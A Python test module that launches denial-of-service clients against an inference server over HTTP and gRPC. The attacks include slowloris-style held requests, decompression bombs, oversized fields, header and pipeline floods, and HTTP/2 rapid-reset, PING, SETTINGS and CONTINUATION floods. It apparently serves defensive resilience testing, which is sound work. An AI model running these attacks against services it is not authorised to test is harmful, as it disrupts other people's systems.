"""Malicious clients, in their own process: ``python -m tests.attacks NAME ADDRESS SECONDS``.

The process prints how often it made the attack.
"""

import contextlib
import itertools
import json
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any, Literal

from tests import bombs
from tests.wire import message

Once = Callable[[str, float], None]
"""Attacks an address once, and stops at a ``time.monotonic`` deadline."""

_HEAD = f"POST {bombs.INFER} HTTP/1.1\r\nHost: localhost\r\n".encode()
_REQUEST: dict[str, Any] = {
    "inputs": [
        {"name": name, "shape": [1, 16], "datatype": "INT64", "data": [1] * 16}
        for name in ("input_ids", "attention_mask")
    ]
}
"""The answer of the model 'toy'. It is copied here, because the model's module imports PyTorch, which takes seconds."""
_GOOD = json.dumps(_REQUEST).encode()
_MANY_HEADERS = b"".join(b"x%d: y\r\n" % number for number in range(5000))
_PATIENCE_S = 3.0


class NotReachedError(Exception):
    """Nothing listens at the address, so no attack was made."""


@dataclass(frozen=True)
class Attack:
    """An attack, and how many clients make it concurrently."""

    once: Once
    clients: int = 8
    port: Literal["http", "grpc"] = "http"


@contextlib.contextmanager
def _connected(address: str) -> Iterator[socket.socket]:
    host, _, port = address.rpartition(":")
    try:
        connection = socket.create_connection((host, int(port)), _PATIENCE_S)
    except ConnectionRefusedError as error:
        raise NotReachedError from error
    with connection:
        yield connection


def _until_closed(connection: socket.socket, pause_s: float = 0.0) -> None:
    """Read until the server closes the connection, or for a while."""
    with contextlib.suppress(OSError):
        while connection.recv(2**16):
            time.sleep(pause_s)


def _send(*contents: bytes) -> Once:
    """Send each content in turn on its own connection, and read the answer."""
    turn = itertools.cycle(contents)

    def once(address: str, until_s: float) -> None:
        with _connected(address) as connection:
            connection.sendall(next(turn))
            _until_closed(connection)

    return once


def _hold(content: bytes, drips: bool = False) -> Once:
    """Send an unfinished request, and wait until the server closes the connection. Optionally drip a byte a second."""

    def once(address: str, until_s: float) -> None:
        with _connected(address) as connection:
            connection.sendall(content)
            connection.settimeout(1.0)
            while time.monotonic() < until_s:
                try:
                    if not connection.recv(2**16):
                        return
                except TimeoutError:
                    if drips:
                        connection.sendall(b" ")

    return once


def _reset(address: str, _: float) -> None:
    """Send most of a request, and reset the connection. A whole request would be load, not an attack."""
    with _connected(address) as connection:
        connection.sendall(message("POST", bombs.INFER, _GOOD)[:-10])
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _pipeline(address: str, _: float) -> None:
    """Send 200 requests at once, and read slowly."""
    with _connected(address) as connection:
        connection.sendall((_HEAD + b"Content-Length: %d\r\n\r\n" % len(_GOOD) + _GOOD) * 200)
        connection.settimeout(1.0)
        _until_closed(connection, 0.01)


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Return an HTTP/2 frame. https://www.rfc-editor.org/rfc/rfc9113#section-4.1"""
    return len(content).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + content


def _headers(*more: tuple[str, str], path: str = "/inference.GRPCInferenceService/ModelInfer") -> bytes:
    """Return a call's headers, as literals without indexing. https://www.rfc-editor.org/rfc/rfc7541#section-6.2.2"""
    lines = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
             ("content-type", "application/grpc"), ("te", "trailers"), *more]  # fmt: skip
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in lines
    )


_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END, _END_HEADERS = 1, 4
_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)


def _flood(*frames: Callable[[int], bytes], times: int = 2000) -> Once:
    """Send frames for one stream after another, as fast as the server accepts them."""
    content = b"".join(frame(stream) for stream in range(1, 2 * times, 2) for frame in frames)

    def once(address: str, until_s: float) -> None:
        with _connected(address) as connection:
            connection.sendall(_HELLO + content)
            connection.settimeout(1.0)
            _until_closed(connection)

    return once


def _calls(*messages: bytes) -> Once:
    """Make calls with compressed messages, each on its own connection. Flow control lets 65,535 bytes pass on each."""
    packed = [bombs.packed(content) for content in messages]
    assert max(map(len, packed)) < 2**16 - 10

    def call(content: bytes) -> bytes:
        data = struct.pack(">BI", 1, len(content)) + content
        parts = [data[at : at + 2**14] for at in range(0, len(data), 2**14)]
        frames = [_frame(_DATA, _END * (part is parts[-1]), 1, part) for part in parts]
        return _HELLO + _frame(_HEADERS, _END_HEADERS, 1, _headers(("grpc-encoding", "gzip"))) + b"".join(frames)

    turn = itertools.cycle(map(call, packed))

    def once(address: str, until_s: float) -> None:
        with _connected(address) as connection:
            connection.settimeout(1.0)
            connection.sendall(next(turn))
            _until_closed(connection)

    return once


def _odd() -> Sequence[bytes]:
    """Return requests with ids, parameters, names and shapes of megabytes."""
    long, given = "n" * (7 * bombs.MIB), _REQUEST
    first = given["inputs"][0]
    bodies = [
        {**given, "id": long},
        {**given, "parameters": {long: 1}},
        {**given, "parameters": {"priority": long}},
        {**given, "inputs": [{**first, "name": long}]},
        {**given, "inputs": [{**first, "shape": [1] * 10**6}]},
        {**given, "outputs": [{"name": f"o{number}"} for number in range(50_000)]},
    ]
    return [message("POST", bombs.INFER, json.dumps(content).encode()) for content in bodies]


ATTACKS: dict[str, Attack] = {
    "heads that never end": Attack(_hold(_HEAD), 200),
    "bodies of a byte a second": Attack(_hold(_HEAD + b"Content-Length: 1000\r\n\r\n", drips=True), 100),
    "bodies that never come": Attack(_hold(_HEAD + b"Content-Length: 1000\r\n\r\n"), 800),
    "a few KB that become MiB, over HTTP": Attack(_send(*(bomb() for bomb in bombs.HTTP.values()))),
    "texts of 7 MiB": Attack(_send(bombs.TEXT)),
    "ids, parameters, names and shapes of MiB": Attack(_send(*_odd())),
    "5,000 headers": Attack(_send(_HEAD + _MANY_HEADERS + b"\r\n")),
    "200 requests at once, answers read slowly": Attack(_pipeline),
    "requests that are reset": Attack(_reset),
    "calls over HTTP": Attack(
        _send(message("POST", "/inference.GRPCInferenceService/x").replace(b"Connection: close", b"X: y")), 64
    ),
    "a few KB that become MiB, over gRPC": Attack(
        _calls(
            b"\x2a\x00" * 16 * bombs.MIB,
            b"\x3a\x00" * 16 * bombs.MIB,
            b"\x2a\x80\x80\x80\x08" + b"\x22\x00" * 8 * bombs.MIB,
        ),
        port="grpc",
    ),
    "calls that are reset": Attack(
        _flood(
            lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _headers()),
            lambda stream: _frame(_RESET, 0, stream, bytes(4)),
        ),
        port="grpc",
    ),
    "pings": Attack(_flood(lambda _: _frame(_PING, 0, 0, bytes(8)), times=20_000), port="grpc"),
    "settings": Attack(_flood(lambda _: _frame(_SETTINGS, 0, 0), times=20_000), port="grpc"),
    "headers that continue": Attack(
        _flood(
            lambda stream: _frame(_HEADERS if stream == 1 else _CONTINUATION, 0, 1, _headers() if stream == 1 else b"")
        ),
        port="grpc",
    ),
    "windows": Attack(_flood(lambda _: _frame(_WINDOW, 0, 0, struct.pack(">I", 1)), times=20_000), port="grpc"),
}


def answers(address: str, port: Literal["http", "grpc"]) -> bool:
    """Return whether a good request with the head of the attacks is answered, and not refused before it is read."""
    data = struct.pack(">BI", 0, 5) + b"\x0a\x03toy"  # the metadata of the model 'toy'
    call = _headers(path="/inference.GRPCInferenceService/ModelMetadata")
    content = {
        "http": _HEAD + b"Content-Length: %d\r\n\r\n" % len(_GOOD) + _GOOD,
        "grpc": _HELLO + _frame(_HEADERS, _END_HEADERS, 1, call) + _frame(_DATA, _END, 1, data),
    }
    received = b""
    with _connected(address) as connection, contextlib.suppress(TimeoutError):
        connection.settimeout(1.0)
        connection.sendall(content[port])
        while part := connection.recv(2**16):
            received += part
    return received.startswith(b"HTTP/1.1 200") if port == "http" else b"input_ids" in received


def run(attack: Attack, address: str, seconds: float) -> Counter[str]:
    """Attack for ``seconds``. Return counts of attacks, of connections cut off, and of addresses not reached."""
    until_s, counted, lock = time.monotonic() + seconds, Counter[str](), threading.Lock()

    def client(_: int) -> None:
        while time.monotonic() < until_s:
            try:
                attack.once(address, until_s)
                outcome = "made"
            except NotReachedError:
                outcome = "not reached"
            except OSError:
                outcome = "cut off"
            with lock:
                counted[outcome] += 1

    with ThreadPoolExecutor(attack.clients) as pool:
        list(pool.map(client, range(attack.clients)))
    return counted


if __name__ == "__main__":
    print(json.dumps(run(ATTACKS[sys.argv[1]], sys.argv[2], float(sys.argv[3]))))
